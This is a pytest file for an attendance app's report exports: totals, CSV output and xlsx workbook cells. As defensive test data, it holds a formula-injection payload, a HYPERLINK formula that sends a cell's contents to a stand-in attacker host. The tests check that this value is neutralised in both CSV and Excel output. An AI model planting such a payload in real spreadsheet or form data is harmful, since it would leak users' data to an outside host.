"""web.exports: report totals, CSV formula safety and the Excel workbook's cells."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest

from common.config import Config
from store.factory import open_attendance_store
from store.records import ABSENT, PRESENT, AttendanceRow
from web.exports import (
    Report,
    ReportError,
    build_report,
    days_csv,
    load_report,
    report_csv,
    report_xlsx,
    totals_csv,
)

D1, D2, D3 = dt.date(2024, 5, 1), dt.date(2024, 5, 2), dt.date(2024, 5, 3)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def present(name: str, day: dt.date, entry: str, last: str) -> AttendanceRow:
    return AttendanceRow(name, day.isoformat(), PRESENT, entry, last)


def absent(name: str, day: dt.date) -> AttendanceRow:
    return AttendanceRow(name, day.isoformat(), ABSENT, None, None)


ROWS = [
    present("Ada Lovelace", D1, "09:00:00", "17:00:00"),
    present("Ada Lovelace", D2, "08:30:00", "16:00:00"),
    absent("Ada Lovelace", D3),
    present("Alan Turing", D2, "10:00:00", "10:05:00"),
    absent("Alan Turing", D1),
    absent("Alan Turing", D3),
    present(EVIL, D3, "07:45:30", "08:00:00"),
    present("Ada Lovelace", dt.date(2024, 4, 30), "06:00:00", "07:00:00"),  # before the range
    present("Alan Turing", dt.date(2024, 5, 4), "06:00:00", "07:00:00"),  # after it
]
ENROLLED = ["Ada Lovelace", "Alan Turing", "Grace Hopper", EVIL]


@pytest.fixture
def report() -> Report:
    return build_report(ROWS, D1, D3, enrolled=ENROLLED)


# --------------------------------------------------------------------------- totals
def test_totals_of_a_small_set(report: Report) -> None:
    by_name = {p.name: p for p in report.people}
    assert [p.name for p in report.people] == [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "Ada Lovelace",
        "Alan Turing",
        "Grace Hopper",
    ]
    ada, alan = by_name["Ada Lovelace"], by_name["Alan Turing"]
    assert (ada.days_present, ada.days_absent, ada.first_entry, ada.mean_entry) == (
        2, 1, "08:30:00", "08:45:00"
    )  # fmt: skip
    assert (alan.days_present, alan.days_absent, alan.first_entry) == (1, 2, "10:00:00")
    assert report.totals.people == 4
    assert report.totals.present_days == 4 and report.totals.absent_days == 3
    assert report.totals.days == 3 and report.totals.days_with_records == 3
    # the day view: rows inside the range only, by date then name
    assert [(r.date, r.name) for r in report.rows] == [
        ("2024-05-01", "Ada Lovelace"),
        ("2024-05-01", "Alan Turing"),
        ("2024-05-02", "Ada Lovelace"),
        ("2024-05-02", "Alan Turing"),
        ("2024-05-03", EVIL),
        ("2024-05-03", "Ada Lovelace"),
        ("2024-05-03", "Alan Turing"),
    ]
    assert report.title == "Attendance 2024-05-01 .. 2024-05-03: 4 people"


def test_enrolled_people_without_records_are_listed_with_zero_days(report: Report) -> None:
    grace = next(p for p in report.people if p.name == "Grace Hopper")
    assert (grace.days_present, grace.days_absent, grace.first_entry, grace.mean_entry) == (
        0, 0, None, None
    )  # fmt: skip
    assert "Grace Hopper" not in {r.name for r in report.rows}
    without = build_report(ROWS, D1, D3)
    assert "Grace Hopper" not in {p.name for p in without.people}
    assert without.totals.people == 3


def test_one_person(report: Report) -> None:
    alan = build_report(ROWS, D1, D3, name=" Alan Turing ", enrolled=ENROLLED)
    assert alan.name == "Alan Turing"
    assert {r.name for r in alan.rows} == {"Alan Turing"} and len(alan.rows) == 3
    assert [p.name for p in alan.people] == ["Alan Turing"]
    assert (alan.totals.people, alan.totals.present_days, alan.totals.absent_days) == (1, 1, 2)
    assert alan.title == "Attendance 2024-05-01 .. 2024-05-03: Alan Turing"
    grace = build_report(ROWS, D1, D3, name="Grace Hopper", enrolled=ENROLLED)
    assert [(p.name, p.days_present) for p in grace.people] == [("Grace Hopper", 0)]
    assert grace.rows == ()
    nobody = build_report(ROWS, D1, D3, name="Nobody", enrolled=ENROLLED)
    assert nobody.people == () and nobody.totals.people == 0


def test_one_day() -> None:
    day = build_report(ROWS, D2, D2, enrolled=ENROLLED)
    assert [(r.name, r.status) for r in day.rows] == [
        ("Ada Lovelace", PRESENT),
        ("Alan Turing", PRESENT),
    ]
    assert day.totals.days == 1 and day.totals.present_days == 2
    assert day.title == "Attendance 2024-05-02: 4 people"


def test_a_range_ending_before_it_starts_is_refused() -> None:
    with pytest.raises(ReportError, match="starts 2024-05-03, after it ends 2024-05-01"):
        build_report(ROWS, D3, D1)


def test_load_report_reads_the_workspace(workspace: Config) -> None:
    assert load_report(workspace, D1, D3).people == ()  # nothing recorded yet: no file made
    assert not workspace.db_path.exists()
    with open_attendance_store(workspace) as db:
        db.mark_present("Ada Lovelace", dt.datetime(2024, 5, 2, 9, 15), 0.4, "door")
        db.close_day(D3, ["Ada Lovelace"])
    (workspace.images_dir / "Grace Hopper").mkdir(parents=True)
    loaded = load_report(workspace, D1, D3)
    assert [(p.name, p.days_present, p.days_absent) for p in loaded.people] == [
        ("Ada Lovelace", 1, 1),
        ("Grace Hopper", 0, 0),
    ]
    assert [(r.date, r.time) for r in loaded.rows] == [
        ("2024-05-02", "09:15:00"),
        ("2024-05-03", None),
    ]


# --------------------------------------------------------------------------- CSV
def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_totals_csv(report: Report) -> None:
    table = parse_csv(report_csv(report))
    assert report_csv(report) == totals_csv(report)
    assert table[0] == ["name", "days_present", "days_absent", "first_entry", "mean_entry"]
    assert table[1:] == [
        ["'" + EVIL, "1", "0", "07:45:30", "07:45:30"],
        ["Ada Lovelace", "2", "1", "08:30:00", "08:45:00"],
        ["Alan Turing", "1", "2", "10:00:00", "10:00:00"],
        ["Grace Hopper", "0", "0", "", ""],
    ]


def test_days_csv(report: Report) -> None:
    table = parse_csv(report_csv(report, "days"))
    assert report_csv(report, "days") == days_csv(report)
    assert table[0] == ["name", "date", "status", "entry_time", "last_seen"]
    assert len(table) == 1 + len(report.rows)
    assert table[1] == ["Ada Lovelace", "2024-05-01", "Present", "09:00:00", "17:00:00"]
    assert table[2] == ["Alan Turing", "2024-05-01", "Absent", "", ""]
    assert ["'" + EVIL, "2024-05-03", "Present", "07:45:30", "08:00:00"] in table
    with pytest.raises(ReportError, match="unknown report view 'pdf'"):
        report_csv(report, "pdf")


@pytest.mark.parametrize("view", ["totals", "days"])
@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_never_start_a_formula(view: str, name: str) -> None:
    text = report_csv(build_report([present(name, D1, "09:00:00", "09:00:00")], D1, D1), view)
    cells = [cell for row in parse_csv(text)[1:] for cell in row]
    assert "'" + name in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


# --------------------------------------------------------------------------- Excel
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"


class Workbook:
    """The parts of an .xlsx that matter here, read with the standard library."""

    def __init__(self, data: bytes) -> None:
        self.zip = zipfile.ZipFile(io.BytesIO(data))
        root = ElementTree.fromstring(self.zip.read("xl/sharedStrings.xml"))
        self.strings = ["".join(si.itertext()) for si in root.findall("m:si", NS)]
        book = ElementTree.fromstring(self.zip.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(self.zip.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target") for r in rels}
        self.sheets = {
            s.get("name"): "xl/" + targets[s.get(REL)] for s in book.find("m:sheets", NS)
        }
        styles = ElementTree.fromstring(self.zip.read("xl/styles.xml"))
        formats = {
            f.get("numFmtId"): f.get("formatCode") for f in styles.iter(f"{{{NS['m']}}}numFmt")
        }
        xfs = styles.find("m:cellXfs", NS)
        self.cell_formats = [formats.get(xf.get("numFmtId"), xf.get("numFmtId")) for xf in xfs]
        self.bold_styles = {
            i for i, xf in enumerate(xfs) if _font_bold(styles, int(xf.get("fontId", 0)))
        }

    def xml(self, sheet: str) -> str:
        return self.zip.read(self.sheets[sheet]).decode("utf-8")

    def cells(self, sheet: str) -> dict[str, tuple[object, str | None, int]]:
        """ref -> (value, number format, style index); strings resolved."""
        root = ElementTree.fromstring(self.xml(sheet))
        out = {}
        for cell in root.iter(f"{{{NS['m']}}}c"):
            value_el = cell.find("m:v", NS)
            style = int(cell.get("s", 0))
            if value_el is None:
                out[cell.get("r")] = (None, self.cell_formats[style], style)
                continue
            value: object = value_el.text
            if cell.get("t") == "s":
                value = self.strings[int(value_el.text)]
            else:
                value = float(value_el.text)
            out[cell.get("r")] = (value, self.cell_formats[style], style)
        return out


def _font_bold(styles, font_id: int) -> bool:
    font = styles.find("m:fonts", NS)[font_id]
    return font.find("m:b", NS) is not None


def excel_date(day: dt.date) -> float:
    return float((day - dt.date(1899, 12, 30)).days)


def excel_time(hms: str) -> float:
    h, m, s = (int(x) for x in hms.split(":"))
    return (h * 3600 + m * 60 + s) / 86400


def test_the_workbook_has_totals_and_days(report: Report) -> None:
    book = Workbook(report_xlsx(report))
    assert list(book.sheets) == ["Totals", "Days"]
    totals = book.cells("Totals")
    assert [totals[f"{c}1"][0] for c in "ABCDE"] == [
        "Name",
        "Present",
        "Absent",
        "First entry",
        "Mean entry",
    ]
    assert all(totals[f"{c}1"][2] in book.bold_styles for c in "ABCDE")
    assert totals["A3"][0] == "Ada Lovelace" and totals["B3"][0] == 2 and totals["C3"][0] == 1
    assert (
        totals["D3"][0] == pytest.approx(excel_time("08:30:00")) and totals["D3"][1] == "hh:mm:ss"
    )
    assert totals["A5"][0] == "Grace Hopper" and totals["B5"][0] == 0 and "D5" not in totals
    # the overall totals, in bold, below an empty row
    assert "A6" not in totals
    assert totals["A7"][0] == "Total: 4 people" and totals["A7"][2] in book.bold_styles
    assert (totals["B7"][0], totals["C7"][0]) == (4, 3)

    days = book.cells("Days")
    assert [days[f"{c}1"][0] for c in "ABCDE"] == ["Name", "Date", "Status", "Entry", "Last seen"]
    assert days["A2"][0] == "Ada Lovelace"
    assert days["B2"] == (excel_date(D1), "yyyy-mm-dd", days["B2"][2])  # a real date
    assert days["C2"][0] == "Present"
    assert days["D2"][0] == pytest.approx(excel_time("09:00:00")) and days["D2"][1] == "hh:mm:ss"
    assert days["E2"][0] == pytest.approx(excel_time("17:00:00"))
    assert days["C3"][0] == "Absent" and "D3" not in days  # Alan: absent on day 1, no time
    assert max(int(re.sub(r"\D", "", ref)) for ref in days) == 1 + len(report.rows)


def test_headers_are_frozen_and_columns_sized(report: Report) -> None:
    book = Workbook(report_xlsx(report))
    for sheet in ("Totals", "Days"):
        xml = book.xml(sheet)
        assert re.search(
            r'<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"', xml
        )
        widths = [float(w) for w in re.findall(r'<col min="\d+" max="\d+" width="([\d.]+)"', xml)]
        assert len(widths) == 5 and all(w > 8 for w in widths)
    # the name column fits the longest name
    name_width = float(
        re.search(r'<col min="1" max="1" width="([\d.]+)"', book.xml("Totals")).group(1)
    )
    assert name_width >= len(EVIL)


def test_names_are_written_as_strings_never_formulas(report: Report) -> None:
    data = report_xlsx(report)
    book = Workbook(data)
    assert EVIL in book.strings
    for name in book.zip.namelist():
        if name.startswith("xl/worksheets/"):
            xml = book.zip.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml
    assert book.cells("Totals")["A2"][0] == EVIL
    assert book.cells("Days")["A6"][0] == EVIL


def test_an_empty_report_is_a_valid_workbook() -> None:
    book = Workbook(report_xlsx(build_report([], D1, D1)))
    assert list(book.sheets) == ["Totals", "Days"]
    assert book.cells("Totals")["A3"][0] == "Total: 0 people"
    assert set(book.cells("Days")) == {f"{c}1" for c in "ABCDE"}
